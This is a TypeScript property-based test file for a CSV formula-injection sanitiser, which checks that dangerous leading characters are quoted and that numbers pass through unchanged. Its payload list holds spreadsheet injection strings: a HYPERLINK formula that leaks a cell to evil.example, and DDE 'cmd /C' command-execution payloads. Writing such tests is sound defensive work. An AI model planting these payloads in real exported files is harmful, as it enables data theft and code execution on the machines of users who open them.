import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, safeCast } from './csv-safety.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
  '=1+1',
  "=cmd|' /C notepad'!'A1'",
  '-',
  '+',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe('neutraliseCell', () => {
  it.each(PAYLOADS)('quotes %j', (payload) => {
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });

  it.each(['-12', '-0.5', '+3', '1e5', '-2.5E-3', '42'])('leaves the number %j alone', (n) => {
    expect(neutraliseCell(n)).toBe(n);
  });

  it('leaves ordinary text alone', () => {
    expect(neutraliseCell('JNIM: Group for Support of Islam and Muslims')).toBe('JNIM: Group for Support of Islam and Muslims');
    expect(neutraliseCell('جماعة نصرة الإسلام والمسلمين')).toBe('جماعة نصرة الإسلام والمسلمين');
  });

  it('no cell a spreadsheet would run survives, and nothing else changes', () => {
    const dangerous = fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s);
    fc.assert(
      fc.property(fc.oneof(fc.string(), dangerous, fc.constantFrom(...PAYLOADS)), (cell) => {
        const out = neutraliseCell(cell);
        const risky = TRIGGERS.some((t) => cell.startsWith(t)) && !PLAIN_NUMBER.test(cell);
        expect(out).toBe(risky ? `'${cell}` : cell);
        expect(TRIGGERS.some((t) => out.startsWith(t)) && !PLAIN_NUMBER.test(out)).toBe(false);
      }),
    );
  });

  it('through csv-stringify and back, every cell is safe', () => {
    const dangerous = fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s);
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string(), dangerous), { minLength: 1, maxLength: 6 }), (row) => {
        const [parsed] = parse(stringify([row], { cast: safeCast }), { relax_quotes: true }) as string[][];
        for (const cell of parsed!) expect(TRIGGERS.some((t) => cell.startsWith(t)) && !PLAIN_NUMBER.test(cell)).toBe(false);
      }),
    );
  });
});
